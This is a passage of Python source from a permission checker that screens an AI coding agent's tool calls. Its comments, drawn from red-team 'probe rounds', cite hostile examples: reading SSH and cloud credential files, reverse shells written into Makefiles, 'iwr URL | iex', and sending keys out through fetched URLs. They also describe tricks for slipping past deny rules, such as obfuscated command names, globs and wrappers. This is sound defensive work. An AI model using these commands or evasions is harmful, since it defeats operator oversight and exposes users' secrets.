                self.no_suggestions = True   # (no rule is read past it either)
                return self.decide(DENY if mode == EXPLORE else ASK, REASON_UNREADABLE_ARGS, "unparseable")
        if mode != BYPASS and (self.is_bash or (self.is_edit and mode != EXPLORE) or is_other
                               or self.tool == _MCP_RESOURCE_READER):
            if self.is_bash:
                hit = self.s.bash_paths(self.command, self.cwd or "/")[1]
                candidates = [hit] if hit else []
            else:
                candidates = [(p, s.sensitive.match(p)) for p in self.file_paths()]
                # (read_csv('~/.aws/credentials') in a database tool's SQL: a file it reads)
                candidates += [(p, s.sensitive.match(p)) for v in self.sql_paths() for p in self.tool_path(v)]
                for code in self.shell_args():   # mcp__shell__run {"command": "cat ~/.ssh/id_rsa"}
                    hit = self.s.bash_paths(code, self.shell_cwd())[1]
                    if hit:
                        candidates.append(hit)
            for p, entry in candidates:
                if entry:
                    self.no_suggestions = True
                    # explore: nothing but the plainly read-only is allowed, and no one is asked
                    return self.decide(DENY if mode == EXPLORE else ASK, REASON_SENSITIVE.format(path=p, entry=entry), "sensitive_path",
                                       entry, immune=True, details={"paths": [p]})
            # a file another program runs later (a CI pipeline, a commit hook) written
            if self.is_bash:
                written = a.write_paths if a is not None and a.parsed else ()
            else:
                written = self.file_paths() if self.is_edit or self.writes_files() else ()
            made = a.made_dirs if self.is_bash and a is not None else ()
            for p in written:
                if p in made:
                    continue   # mkdir .github: an empty directory runs nothing (what is put in it is asked)
                entry = s.runs_later.match(p)
                if entry:
                    self.no_suggestions = True
                    return self.decide(DENY if mode == EXPLORE else ASK, REASON_RUNS_LATER.format(path=p, entry=entry),
                                       "sensitive_path", entry, immune=True, details={"paths": [p]})
            if is_other and written and self.remote_write():
                # (probe round 49, tools49) a hosted repository's file that says who reviews or
                # approves, or what its bots run and merge (CODEOWNERS, dependabot.yml, renovate,
                # mergify), committed there by a forge's tool: a push that changes the rules the
                # repository's secrets and reviews live by, asked as git push is
                hit = next((p for p in written if _FORGE_CONTROL.search(p)), None)
                if hit is not None:
                    self.no_suggestions = True
                    return self.decide(DENY if mode == EXPLORE else ASK, REASON_FORGE_CONTROL.format(path=hit),
                                       "risky_command", "forge_control", details={"paths": [hit]})
        if a is not None:
            # eval / source / . run text that no rule has seen: as dynamic as "$CMD"
            # (source FILE runs FILE's commands in this very shell, where they last: its
            # functions, aliases and PATH stay for every later call. A virtualenv's
            # activate script inside the project is the one file trusted, as the
            # project's build scripts are: the analysis counted it with the build.)
            dyn = next((c for c in a.commands if c.dynamic_name or c.name == "eval"
                        or (c.name in ("source", ".") and not _is_activate(c, self.cwd))), None)
            if dyn is not None or a.dynamic:
                self.no_suggestions = True
                part = dyn.text if dyn is not None else self.command
                tmpl = REASON_SOURCE if dyn is not None and dyn.name in ("source", ".") and not dyn.dynamic_name \
                    else REASON_DYNAMIC
                return self.decide(DENY if mode == EXPLORE else ASK, tmpl.format(part=part),
                                   "risky_command", "dynamic_command", details={"part": part})
            # a catastrophe that cannot be ruled out (rm -rf "$DIR"): asked in every
            # mode, BYPASS included, never allowed by a rule
            unsure = next((f for f in a.risky if f.code in _UNSURE_CATASTROPHES), None)
            if unsure is not None:
                self.no_suggestions = True   # (no rule allows it: none is offered)
                return self.decide(DENY if mode == EXPLORE else ASK, REASON_RISKY.format(reason=unsure.reason, part=unsure.part),
                                   "risky_command", unsure.code, details={"finding": unsure.code, "part": unsure.part})
        elif is_other and self.shell_args() and self.tool not in s.tools:
            # code a runner runs that deletes a tree it may be / or the home (a name given
            # Path.home(), rmtree(target)): asked in every mode, bypass included, as Bash's
            # rm -rf "$DIR" is
            for code in self.shell_args():
                b = s.analyze(code, self.shell_cwd())
                if not code.startswith("\x00"):
                    # a shell's command whose program is only known at run time (eval,
                    # source, $(...) as a name): asked in every mode, as Bash's is (round 23);
                    # (probe round 45, interp45) a code runner's code too, as the same code
                    # given to python3 -c is (exec of a decoded string, getattr(__import__(..)))
                    dyn = next((c for c in b.commands if c.dynamic_name or c.name == "eval"
                                or (c.name in ("source", ".") and not _is_activate(c, self.shell_cwd()))), None)
                    if dyn is not None or b.dynamic:
                        self.no_suggestions = True
                        part = (dyn.text if dyn is not None else code)[:300]
                        return self.decide(DENY if mode == EXPLORE else ASK, REASON_DYNAMIC.format(part=part),
                                           "risky_command", "dynamic_command", details={"part": part})
                unsure = next((f for f in b.risky if f.code in _UNSURE_CATASTROPHES), None)
                if unsure is None and code in self._code_args and destructive.tree_delete_unknown(code):
                    unsure = True
                if unsure is not None:
                    self.no_suggestions = True
                    part = code[:300]
                    reason, found = (REASON_UNSURE_TREE, "code_catastrophe_unknown") if unsure is True \
                        else (unsure.reason, unsure.code)
                    return self.decide(DENY if mode == EXPLORE else ASK, REASON_RISKY.format(reason=reason, part=part),
                                       "risky_command", found, details={"finding": found, "part": part})
        # (probe round 28, chains) what a write leaves for another program to run later
        # (a reverse shell in a recipe, a catastrophe or an installer line in a script, a
        # secret sent by a test): no allow rule on writes lifts it (Edit(**) allows edits,
        # not a reverse shell in the Makefile that make runs next); a Bash write's own text
        # (echo ... >> Makefile, a here-document, sed -i's replacement) is read as Write's
        if a is not None and a.parsed and a.write_paths and self.content_risk is None and mode != EXPLORE \
                and not all(_is_document(p) for p in a.write_paths):
            later = None
            # (echo "\\trm -rf ~" >> Makefile: printf's and echo -e's escapes make the line)
            for text in dict.fromkeys((self.command, self.command.replace("\\n", "\n").replace("\\t", "\t"))):
                later = self.text_findings(text, shell_shaped=True, data=False)
                if later is None and destructive.may_send_secret(text):
                    line = destructive.sends_secret_line(text)
                    later = ("sends_secret", f"sends a secret or the project out: {line}") if line else None
                if later is not None:
                    break
            if later is None:
                later = self.later_finding([self.command], [])
            if later is None and any(_WINDOWS_SCRIPT.search(p) for p in a.write_paths):
                # ((probe round 47, pwsh47) a PowerShell or cmd script's text written by a command,
                # echo 'iwr URL | iex' > build.ps1, Set-Content x.ps1 '...' in the PowerShell tool:
                # each word of it read as Write's content of that file is, in the script's language)
                words = [w for c in a.commands for w in c.argv[1:] if " " in w or "\n" in w][:16]
                words += [u for u in (w.replace("\\n", "\n") for w in words if "\\n" in w) if u not in words]
                for w in words:
                    later = self.text_findings(w, shell_shaped=True, data=False) \
                        or self.script_finding([w], list(a.write_paths))
                    if later is not None:
                        break
            if later is None and any(_requirements_file(p) for p in a.write_paths):
                source = _PIP_SOURCE_LINE.search(self.command)   # (echo '--extra-index-url …' >> requirements.txt)
                later = ("writes_later", f"points pip at another source for every package: {source.group(0).strip()[:200]}") \
                    if source is not None else None
            # (asked; BYPASS, which asks no one, lets a Bash write through as before: a
            # mode may only narrow what a wider one allows, and Bash's text is no Write)
            self.content_risk = later
        if a is not None and a.parsed and a.write_paths and self.content_risk is None and mode != EXPLORE \
                and any(_is_document(p) for p in a.write_paths) and may_hold_credential(self.command):
            # (probe round 36, exfil36) a credential written into a document by Bash (echo
            # 'AKIA...' >> notes.md, a here-document into docs/setup.md), as Write's is: a
            # document is published
            cred = credential_in(self.command)
            if cred is not None:
                self.content_risk = ("credential_in_document",
                                     f"writes what looks like a credential ({cred}) into a document")
        if self.content_risk is not None and mode not in (BYPASS, EXPLORE):
            self.no_suggestions = True
            return self.content_ask()
        if mode not in (BYPASS, EXPLORE) and is_other and self.fetches_url():
            # (probe round 28, published2) a credential in what a fetch sends (the image or
            # link exfiltration of Copilot, Cursor, Windsurf: https://x/?k=AKIA...): a
            # rule allowing WebFetch(domain:x) or a fetching server allowed fetching
            # there, not handing it a key
            sent = self.sent_credential()
            if sent is not None:
                self.no_suggestions = True
                return self.decide(ASK, REASON_SENDS_CREDENTIAL.format(what=sent, tool=self.tool), "risky_command",
                                   "sends_credential")
        if self.tool == GREP_TOOL and mode != BYPASS:
            hit = next(((k, v) for k in ("pattern", "path") for v in [self.args.get(k)]
                        if isinstance(v, str) and _RG_RUNS_OPTION.match(v)), None)
            if hit is not None:
                self.no_suggestions = True
                return self.decide(DENY if mode == EXPLORE else ASK,
                                   REASON_SEARCH_OPTION.format(what=hit[0], value=hit[1][:200]), "risky_command",
                                   "search_option")
        # 4. allow rules
        if mode != EXPLORE and not self.no_allow_rules:
            rule = self.allow_rule()
            if rule is not None:
                return self.decide(ALLOW, REASON_ALLOW_RULE.format(rule=rule), "permission_rule", rule)
        # 5. risky commands, writes outside the working directory
        if mode not in (BYPASS, EXPLORE):
            d = self.risky_or_outside()
            if d is not None:
                return d
        # 6. read-only Bash; another tool that only runs read-only shell commands (the
        # PowerShell tool's Get-ChildItem, an MCP shell's ls), as Bash is in every mode
        if a is not None and self.read_only(a):
            return self.decide(ALLOW, REASON_READ_ONLY, "read_only")
        if is_other and self.only_read_only_shell():
            return self.decide(ALLOW, REASON_READ_ONLY, "read_only")
        # 7. mode defaults
        return self.mode_default()

    def sends_off_machine(self) -> bool:
        """(probe round 43, redteam43) Whether a Bash command sends what it reads off the
        machine: a network upload or connection found in it, or a file server."""
        a = self.analysis
        if a is None or not self.is_bash:
            return False
        if any(f.code in _OFF_MACHINE_FINDINGS for f in a.risky):
            return True
        for c in a.commands:
            for w in (c.argv, *rule_alias_words(c.argv)):
                if not w:
                    continue
                if posixpath.basename(w[0]) in _FILE_SERVERS:
                    return True
                if posixpath.basename(w[0]).startswith("python") and "-m" in w[:-1] \
                        and w[w.index("-m") + 1] in _SERVING_MODULES:
                    return True
        return False

    def guard_verdicts(self) -> list[tuple[str, Any]]:
        """(guard id, first matching pattern) for every guard plugin that applies."""
        out = []
        for g in self.s.guards:
            if g.tools and self.tool not in g.tools:
                continue
            for pat in g.patterns:
                if self.guard_pattern_matches(pat, strict=pat.verdict == ALLOW):
                    out.append((g.id, pat))
                    break
        return out

    def guard_pattern_matches(self, pat, *, strict: bool) -> bool:
        if pat.match is not None and self.is_bash and self.command is not None:
            a = self.analysis
            if strict:
                # an allow: every part, as written, must match, and nothing dynamic
                if a is None or not a.parsed or a.dynamic or not a.commands:
                    return False
                if not all(pat.match.search(" ".join(c.written)) for c in a.commands):
                    return False
                return pat.match.search(self.command)
            if pat.match.search(self.command):
                return True
            if a is not None and any(pat.match.search(" ".join(c.argv)) or pat.match.search(" ".join(c.written))
                                     for c in a.commands):
                return True
            if a is not None and a.parsed and any(pat.match.search(" ".join(w)) for w in self.bash_words() if w):
                return True   # (CURL x, npx curl x, firejail sh -c 'curl x': probe round 32, rules32)
        if pat.file_match is not None and (self.is_read or self.is_edit or (self.is_bash and not strict)):
            paths = self.file_paths()
            if not paths:
                return False
            glob = pat.file_match
            bases = [posixpath.basename(p) for p in paths]
            if strict:
                return all(fnmatch.fnmatchcase(b, glob) for b in bases)
            return any(fnmatch.fnmatchcase(b.casefold(), glob.casefold()) for b in bases)
        return False

    def blocking_rule(self) -> tuple[str, str] | None:
        """(verdict, rule text) of the first operator deny rule, else ask rule, that
        matches; memoised per Bash command (it depends only on the command and cwd)."""
        key = ("block", self.command, self.cwd, self.base) if self.is_bash and self.command is not None \
            and not self.param_rules() else None
        if key is not None:
            hit = self.s.memo.get(key, _MISSING)
            if hit is not _MISSING:
                return hit
        found = partial = None
        # Bash rules on programs no command here is cannot match (level 0): not tried
        skip: set[int] | frozenset[int] = frozenset()
        if self.is_bash and self.command is not None:
            index = self.block_index()
            if index.indexed:
                skip = index.indexed - index.rules_for({w[0] for w in self.bash_words() if w})
        for verdict, rules in self.rules_for("block"):
            for r in rules:
                if skip and id(r) in skip:
                    continue
                level = self.block_rule_matches(r)
                if level == 2 or (level == 1 and verdict == ASK):
                    found = (verdict, r.text)
                    break
                if level == 1 and partial is None:
                    # a recursive read or delete of a directory that holds what a deny
                    # rule protects: not denied outright (the rule may cover a small
                    # part of it), never allowed either
                    partial = (ASK_PARTIAL, r.text)
            if found is not None:
                break
        found = found or partial
        if key is not None:
            _remember(self.s.memo, key, found)
        return found

    def param_rules(self) -> bool:
        """Whether a deny or ask rule on one argument (Tool(param:value)) may apply: then
        a Bash command's verdict depends on more than its text."""
        key = ("param-rules", self.tool)
        found = self.s.memo.get(key)
        if found is None:
            found = any(r.kind == "param" for _verdict, rules in self.rules_for("block") for r in rules)
            _remember(self.s.memo, key, found)
        return found

    def block_index(self) -> BashRuleNames:
        """The deny and ask rules of rules_for("block") indexed by program (per tool)."""
        key = ("block-index", self.tool)
        found = self.s.memo.get(key)
        if found is None:
            found = BashRuleNames(r for _verdict, rules in self.rules_for("block") for r in rules)
            _remember(self.s.memo, key, found)
        return found

    def bash_words(self) -> list[tuple[str, ...]]:
        """The words deny/ask rules meet: each command as it runs and as it was written
        (and with its name's directory dropped), or the best-effort words of a command
        the parser could not analyse."""
        a = self.analysis
        if a is None or not a.parsed:
            words = words_of_unparsed(self.command)
            if a is not None and a.commands:
                # (probe round 41, stdin41) what the analysis read of it and of the texts bash
                # reads it as (_fallback_readings: coproc NAME { rm x; } is { rm x; }, a
                # brace list expanded): those commands' words too, for deny and ask rules only
                words = words + [w for w in _analysis_words(a, self.shell_cwd(), self.home) if w not in words]
            if any(_GLOB_CHARS.search(" ".join(w[:6])) for w in words):
                # (probe round 40, redteam40) a glob naming the program or its subcommand in a
                # line the grammar refuses (r[m] x, c?rl URL): as in a parsed one
                words = words + self.glob_name_words(None, words)
            return words
        words = self.s.memo.get(("words", self.command, self.cwd))
        if words is None:
            words = _analysis_words(a, self.shell_cwd(), self.home) + self.more_words(a)
            prefixes = self.file_rule_prefixes()
            if prefixes:
                words = words + file_rule_words(words, prefixes) + self.git_hook_words(a, prefixes)
            _remember(self.s.memo, ("words", self.command, self.cwd), words)
        return words

    def more_words(self, a: BashAnalysis, depth: int = 0) -> list[tuple[str, ...]]:
        """The words beyond each command's own that a rule meets in an analysed command: the
        code it only probed, a runner's command lines, a wrapper's command, a glob's names
        (bash_words'; probe round 40, pwsh40: another tool's shell code too, so that
        Get-Content deploy.ps1 | iex in the PowerShell tool and cat deploy.sh | sh in an MCP
        shell meet a rule on the script as the Bash tool's cat deploy.sh | sh does)."""
        words: list[tuple[str, ...]] = []
        for code in a.probed:
            # shell code a program runs that the analysis only probed (less +'!CMD',
            # ssh -o ProxyCommand=CMD, rsync -e CMD, an alias's value: probe round 32)
            words = words + self.other_shell_words(code, depth + 1)
        for c in a.commands:
            if c.name in COMMAND_LINE_RUNNERS or (c.name in ("npx", "bunx", "pnpx") and any(
                    w in COMMAND_LINE_RUNNERS for w in c.argv[1:4])):
                # (probe round 29, published3) the command lines a runner is given
                # (hyperfine 'rm -rf src', concurrently 'git push') meet the rules as
                # the commands they are
                for w in runner_command_lines(c.argv[1:]):
                    words = words + self.other_shell_words(w, depth + 1)
            elif not c.dynamic_name and len(c.argv) > 2:
                # (probe round 32, rules32) a wrapper the analysis does not unwrap
                # (firejail, nsenter, eatmydata, runuser -u x --) given a shell's or an
                # interpreter's code: firejail sh -c 'curl x' meets Bash(curl:*) as sh -c
                # 'curl x' does, the wrapped command analysed as a command of its own
                for inner in exec_wrapped_words(c.argv):
                    nm = _VERSION_END.sub("", inner[0])
                    if len(inner) > 1 and (nm in destructive.INTERPRETERS or nm in destructive.SHELLS):
                        words = words + self.other_shell_words(shlex.join(inner), depth + 1)
                        break
        if any(c.argv and _GLOB_CHARS.search(c.argv[0] if len(c.argv) < 2 else c.argv[0] + c.argv[1])
               or len(c.argv) > 2 and _GLOB_CHARS.search(" ".join(c.argv[2:6]))
               or c.dynamic_name and c.argv and "$" in c.argv[0] for c in a.commands) or a.dynamic:
            words = words + self.glob_name_words(a)
        return words

    def file_rule_prefixes(self) -> dict[str, tuple[tuple[str, ...], ...]]:
        """(probe round 40, editors40) The deny and ask rules naming a file run, by the
        file (permissions.file_rule_prefixes; remembered per tool)."""
        found = self.s.memo.get(("file-rule-prefixes", self.tool))
        if found is None:
            found = file_rule_prefixes(r for _verdict, rules in self.rules_for("block") for r in rules)
            _remember(self.s.memo, ("file-rule-prefixes", self.tool), found)
        return found

    def git_hook_words(self, a: BashAnalysis, prefixes: Mapping[str, tuple[tuple[str, ...], ...]]) -> list[tuple[str, ...]]:
        """(probe round 40, editors40) A rule naming a git hook's file (sh hooks/pre-commit,
        ./.git/hooks/pre-push) meets the git command that runs it: git -c
        core.hooksPath=hooks commit, git config core.hooksPath hooks && git commit, git
        commit (.git/hooks/pre-commit); git commit --no-verify runs no pre-commit."""
        if not any(k.rpartition("/")[2] in GIT_HOOK_NAMES for k in prefixes):
            return []
        moved = {id(mc): where for mc, where in zip(a.moved, a.moved_dirs)}
        cwd = self.shell_cwd()
        hooks_dir: str | None = None
        out: list[tuple[str, ...]] = []
        worktrees: list[str] = []
        for c in a.commands:
            if not c.argv or c.argv[0] != "git":
                continue
            hooks, hooks_dir = git_hook_runs(c.argv, hooks_dir, c.env)
            if c.argv[1:3] == ("worktree", "add") and len(worktrees) < 4:
                # (probe round 41, stdin41) git worktree add ../wt && git -C ../wt push: a
                # worktree's git directory is this repository's, and so are its hooks
                ops = [x for k, x in enumerate(c.argv[3:], 3) if not x.startswith("-")
                       and c.argv[k - 1] not in ("-b", "-B", "--reason", "--orphan")]
                if ops:
                    worktrees.append(ops[0].rstrip("/"))
            elif hooks and worktrees and "-C" in c.argv and any(
                    x.rstrip("/") == w or x.startswith(w + "/") for x in c.argv[2:3] for w in worktrees):
                hooks = hooks + git_hook_runs(tuple(x for k, x in enumerate(c.argv) if k not in (1, 2)),
                                              hooks_dir, c.env)[0]
            for h in hooks:
                for d in (None, *moved.get(id(c), ())):
                    for sp in _spellings(h, cwd, self.home, d):
                        for prefix in prefixes.get(_file_key(sp), ()):
                            out.append(prefix)
        return out

    def glob_name_words(self, a: BashAnalysis | None, argvs: list[tuple[str, ...]] | None = None) -> list[tuple[str, ...]]:
        """(probe round 38, rules38) A command named by a glob (./deploy*.sh, ./[d]eploy.sh,
        /usr/bin/r?) runs whatever file it matches: a deny or ask rule on a program whose
        name the glob matches meets it as that program (failing closed: the file may not
        be there)."""
        rules = [r for _verdict, rules in self.rules_for("block") for r in rules
                 if r.tool == "Bash" and r.tokens and not _GLOB_CHARS.search(r.tokens[0])]
        names = {posixpath.basename(r.tokens[0]) for r in rules}
        # (probe round 40, redteam40) and a glob as the command's first operand (git pu?h,
        # git p[u]sh, git pus* origin) runs the subcommand it matches: a rule whose second
        # word the glob matches meets the command with that word there
        subs = {r.tokens[1] for r in rules if len(r.tokens) > 1 and not _GLOB_CHARS.search(r.tokens[1])}
        out: list[tuple[str, ...]] = []
        for argv in (argvs if argvs is not None else [c.argv for c in a.commands] if a is not None else []):
            if not argv:
                continue
            heads = [argv[0]]
            tail = _expansion_tail(argv[0]) if "$" in argv[0] or "`" in argv[0] else None
            if tail is not None:
                # (probe round 51, evasion51) a program named by a word only known at run time
                # that ends in a literal name ($D/rm, ${PATH:0:1}bin${PATH:0:1}rm, ${X}curl): a
                # deny or ask rule on a program whose name ends so meets it (failing closed)
                heads = [n for n in names if n and fnmatch.fnmatchcase(n, tail)]
                out.extend((n,) + tuple(argv[1:]) for n in heads)
            elif _GLOB_CHARS.search(argv[0]):
                pattern = posixpath.basename(argv[0])
                heads = [n for n in names if n and fnmatch.fnmatchcase(n, pattern)]
                out.extend((n,) + tuple(argv[1:]) for n in heads)
            if "git" in (posixpath.basename(h) for h in heads):   # (after git's global options: git -C . pu?h)
                k = 1 + len(git_split_t(argv[1:])[0])
            else:
                k = next((i for i in range(1, min(len(argv), 8)) if not argv[i].startswith("-")), None)
            k = k if k is not None and k < len(argv) else None
            if k is None or not _GLOB_CHARS.search(argv[k]) or not subs:
                continue
            for sub in subs:
                if fnmatch.fnmatchcase(sub, argv[k]):
                    out.extend((h,) + tuple(argv[1:k]) + (sub,) + tuple(argv[k + 1:]) for h in heads)
        if a is not None and a.dynamic and names and isinstance(self.command, str):
            # (probe round 52, evasion52) a program only known at run time in a command whose
            # text spells a denied or asked program's name as a word of its own (c=rm in one
            # branch, ${x@E}, $(basename /bin/rm), awk printing "rm", a list file xargs hands to
            # sh -c): the name may be that program, every value the text offers: it meets the
            # rule as that program (failing closed)
            # (and as pieces in a row: c=(r m); "${c[0]}${c[1]}" is rm)
            pieces = _NAME_WORDS.findall(self.command)[:256]
            joined = {"".join(pieces[i:i + k]) for k in (2, 3, 4) for i in range(len(pieces) - k + 1)}
            spelled = names.intersection(joined.union(pieces))
            if spelled:
                dyn = [c.argv[1:] for c in a.commands if c.dynamic_name and c.argv]
                out.extend((n,) + tuple(rest) for n in sorted(spelled) for rest in dyn)
                if not dyn:
                    # (no program word is: the words the text puts after the name, echo 'git
                    # push' > y; xargs -a y sh -c)
                    out.extend(tuple(pieces[i:i + 6]) for i, w in enumerate(pieces) if w in spelled)
        return out

    def other_shell_words(self, code: str, depth: int = 0) -> list[tuple[str, ...]]:
        """bash_words for a shell command another tool runs (or one a command runs: depth)."""
        b = self.s.analyze(code, self.shell_cwd())
        if b is None or not b.parsed:
            return words_of_unparsed(code)
        words = _analysis_words(b, self.shell_cwd(), self.home)
        if depth < 2 and (b.probed or len(b.commands) > 0):
            words = words + self.more_words(b, depth)
        return words

    def rules_for(self, which: str):
        """The operator rules that may apply to this tool (remembered per tool): "allow",
        the allow rules that cover it; "block", (verdict, rules) for deny then ask, each
        rule block_rule_matches could match (a Bash command also meets Read/Edit/Write
        path rules)."""
        key = ("rules", which, self.tool)
        found = self.s.memo.get(key)
        if found is None:
            s, tool = self.s, self.tool
            if which == "allow":
                found = [r for r in s.allow_rules if r.covers_tool(tool)]
            else:
                def may_apply(r: PermissionRule, deny: bool = False) -> bool:
                    if (self.is_bash or not (self.is_read or self.is_edit) or tool == _MCP_RESOURCE_READER) \
                            and r.kind == "glob" \
                            and r.tool in ("Read", "Edit", "Write"):
                        return True
                    if r.kind == "domain" and (self.is_bash or not (self.is_read or self.is_edit)):
                        return True   # (a WebFetch rule on a host meets curl and other tools' URLs)
                    if r.tool == "Bash" and (self.is_bash or not (self.is_read or self.is_edit)):
                        return True   # (another tool's shell command meets Bash rules: block_rule_matches)
                    if deny and self.is_edit and r.kind == "glob" and r.tool == "Read":
                        return True   # (a Read deny rule blocks writes there too, as in Claude Code)
                    return r.covers_tool(tool, loose=True)
                found = [(DENY, [r for r in s.deny_rules if may_apply(r, True)]),
                         (ASK, [r for r in s.ask_rules if may_apply(r)])]
            _remember(s.memo, key, found)
        return found

    def block_rule_matches(self, rule: PermissionRule) -> int:
        """Deny/ask rules match loosely (fail closed): 2 when the rule covers the call,
        1 when the call reads or deletes a whole tree the rule covers part of, else 0."""
        tool = self.tool
        if rule.kind == "param":
            return 2 if rule.covers_tool(tool, loose=True) and param_matches(rule, self.args) else 0
        if rule.kind == "name":
            return 2 if rule.covers_tool(tool, loose=True) and name_rule_matches(rule, tool, self.args, loose=True) else 0
        if rule.kind == "ps":
            if not rule.covers_tool(tool, loose=True):
                return 0
            level = powershell_rule_level(rule, self.args.get("command"), loose=True)
            if level < 2 and ps_rule_names_script(rule) and _name_search(_POWERSHELL_TOOL, tool):
                # (probe round 40, pwsh40) a rule on a script (PowerShell(./deploy.ps1)) meets
                # every way the code runs it, as the Bash reading of the call finds them: . X,
                # Import-Module X, Invoke-Command -FilePath X, pwsh X, Get-Content X | iex, a copy
                # of X run; a module under its other spellings (X.psd1, X.psm1, the folder X)
                codes = [c for c in self.shell_args() if not c.startswith("\x00")]
                if any(ps_rule_meets_run(rule, w) for code in codes for w in self.other_shell_words(code) if w):
                    return 2
            return level
        if rule.kind == "inert":
            return 0
        if rule.tool == "Bash" and self.is_bash:
            if rule.kind == "any":
                return 2
            if self.command is None:
                return 0
            if any(bash_block_matches(rule, w) for w in self.bash_words() if w):
                return 2
            if len(rule.tokens) > 1 and rule.tokens[0] == "git" and rule.tokens[1] in GIT_COMMANDS \
                    and self.runs_git_alias():
                # (probe round 49, rules49) git p, with p an alias (or a git-p program) only
                # the configuration knows: it may be the git push the rule keeps
                return 1
            return 0
        if rule.tool == "Bash" and not self.is_bash:
            # (probe round 28, published2) a shell command another tool runs (mcp__shell__run
            # {"command": "rm -rf src"}, an MCP tool named Bash, the PowerShell tool read as
            # Bash) meets the operator's Bash deny and ask rules as Bash's own would: a
            # Bash(rm:*) deny is not evaded by sending the command through another shell
            codes = [c for c in self.shell_args() if not c.startswith("\x00")] \
                if not (self.is_read or self.is_edit) else []
            if self.is_other:
                codes = codes + self.file_tool_lines()
            if not codes:
                return 0
            if rule.kind == "any":
                return 2
            if any(bash_block_matches(rule, w) for code in codes for w in self.other_shell_words(code) if w):
                return 2
            raw = self.args.get("command")
            if isinstance(raw, str) and _name_search(_POWERSHELL_TOOL, self.tool):
                # (probe round 52, pwsh52) the PowerShell tool's line as typed: a program it runs
                # (cmd /c dir, wsl ls, powershell -c ...) is read as what that program runs, so a
                # Bash(cmd:*) deny never met the cmd it names (cmd.exe, & 'cmd' too)
                return 2 if any(bash_block_matches(rule, w) for w in _typed_programs(raw)) else 0
            return 0
        if rule.kind == "glob" and self.is_bash and rule.tool in ("Read", "Edit", "Write"):
            a = self.analysis
            if a is None:
                return 0
            if rule.tool == "Read":
                wanted, trees = a.read_paths, a.tree_reads
            else:
                wanted, trees = a.write_paths, a.tree_writes
            level = self.glob_level(rule, wanted, trees, a.visible_trees if rule.tool == "Read" else ())
            if level < 1 and rule.tool == "Read" and any(f.code == _UNKNOWN_READ_FINDING for f in a.risky):
                # (probe round 44, redteam44) a read whose file is only known at run time
                # (cd "$D" && cat id_rsa, CDPATH=~ cd .ssh && cat id_rsa, cat "$f") may
                # be the file the rule keeps: not sure, as an unknown write is for Edit
                level = 1
            if level < 1 and rule.tool == "Read" and a.follows_links:
                # (probe round 49, rules49) a tree copied or searched through its symbolic
                # links (cp -rL docs /tmp/x, tar -czhf a.tgz docs, grep -R x docs): a link
                # below it may point into what the rule keeps: not sure
                level = 1
            if level < 2 and rule.tool != "Read":
                # (probe round 32, rules32) a write to the very directory whose inside a rule
                # covers puts files in it (rsync -a src/ secrets/, git checkout HEAD secrets/,
                # git restore secrets): as a write below it; and a write whose target is only
                # known at run time (echo x > "$F", patch < x.diff) may land there: not sure
                for p in wanted:
                    if self.glob_level(rule, [p.rstrip("/") + "/\x01"], ()) == 2:
                        return 2
                if a.unknown_writes:
                    level = max(level, 1)
            if level < 2 and "/cwd" in (self.command or ""):
                # (probe round 34, tools34) cat /proc/1234/cwd/.env, cat /proc/$PPID/cwd/.env:
                # the analysis reads another process' cwd as /, but the pid may be the
                # agent's own or its shell's; any word there (a read or a write) counts
                level = max(level, self.glob_level(rule, _proc_cwd_words(a), ()))
                if level == 2:
                    return 2
            if level < 2 and a.probed:
                # (probe round 32, rules32) the files code a program runs reads or writes
                # (docker run -v $PWD:/w alpine cat /w/.env, read on the host path bound)
                for code in a.probed[:8]:
                    b = self.s.analyze(code, self.shell_cwd())
                    if b is not None and b.parsed:
                        pw, pt = (b.read_paths, b.tree_reads) if rule.tool == "Read" else (b.write_paths, b.tree_writes)
                        level = max(level, self.glob_level(rule, pw, pt))
                        if level < 1 and rule.tool == "Read" and any(f.code == _UNKNOWN_READ_FINDING for f in b.risky):
                            level = 1   # (probe round 49, interp49: a file code reads by a computed name)
                        if level < 1 and rule.tool != "Read" and b.unknown_writes:
                            level = 1   # (probe round 49, interp49: ...or writes)
                        if level < 2 and rule.tool == "Read" and b.read_paths and code.startswith("ls -- "):
                            # (probe round 48, interp48) a directory code lists (os.listdir(
                            # 'secrets')): as ls of it, below
                            listed = self.listed_dirs(b)
                            if listed and self.glob_level(rule, listed, listed) == 2:
                                return 2
                        if level == 2:
                            return 2
            if level < 2 and rule.tool == "Read" and a.read_paths:
                # ls private/, find private, tree private, du -a private: the names below a
                # directory, as the LS tool lists them; denied (or asked) where the rule
                # covers all of it, as LS is (probe round 28)
                listed = self.listed_dirs(a)
                if listed and self.glob_level(rule, listed, listed) == 2:
                    return 2
            return level
        if rule.kind == "glob" and rule.tool in ("Read", "Edit", "Write") and not rule.covers_tool(tool) and (
                self.is_other or tool == _MCP_RESOURCE_READER):
            # another tool's paths (an MCP server's read_file, write_file, move_file; an
            # MCP resource's file: URI; another agent's read_file, read_many_files,
            # search_file_content, replace): they meet the operator's file rules,
            # whichever way it uses them; a directory given to a reader or a search is
            # its tree, a glob it is given (include: ["secrets/**"]) what it picks
            paths = self.file_paths()
            level = self.glob_level(rule, paths, () if self.writes_files() else paths) if paths else 0
            if level < 2:
                for fixed in (f for g in self.glob_args() for f in _glob_alternatives(g)):
                    level = max(level, self.glob_level(rule, [fixed], ()), self.glob_level(rule, (), [glob_dir(fixed)]))
                    if level == 2:
                        break
            if level < 2 and tool != _MCP_RESOURCE_READER:
                # (probe round 34, tools34) the shell command another tool runs
                # (mcp__shell__execute_command {"command": "cat .env"}) meets the file rules
                # as Bash's own reads and writes do (it was read-only, allowed in bypass)
                for code in [c for c in self.shell_args() if not c.startswith("\x00")][:8]:
                    b = self.s.analyze(code, self.shell_cwd())
                    if b is None or not b.parsed:
                        continue
                    pw, pt = (b.read_paths, b.tree_reads) if rule.tool == "Read" else (b.write_paths, b.tree_writes)
                    level = max(level, self.glob_level(rule, pw, pt, b.visible_trees if rule.tool == "Read" else ()))
                    if level < 2 and "/cwd" in code:
                        level = max(level, self.glob_level(rule, _proc_cwd_words(b), ()))
                    if level == 2:
                        return 2
            if level == 1 and _LISTS_NAMES.search(tool):
                return 0   # (a listing shows names below a path, not what a part of it holds: as LS)
            return level
        if rule.kind == "domain" and not rule.covers_tool(tool):
            # a deny or ask rule on a host reaches every fetch of it: curl, wget, code
            # given a URL in Bash, another tool's URL (mcp__fetch__fetch, a browser);
            # an address that cannot be read counts
            return 2 if any(domain_blocks(rule, h) for h in self.fetched_hosts()) else 0
        if not rule.covers_tool(tool, loose=True) and not (self.is_edit and rule.kind == "glob" and rule.tool == "Read"):
            return 0   # (rules_for lets only deny rules on Read reach an edit)
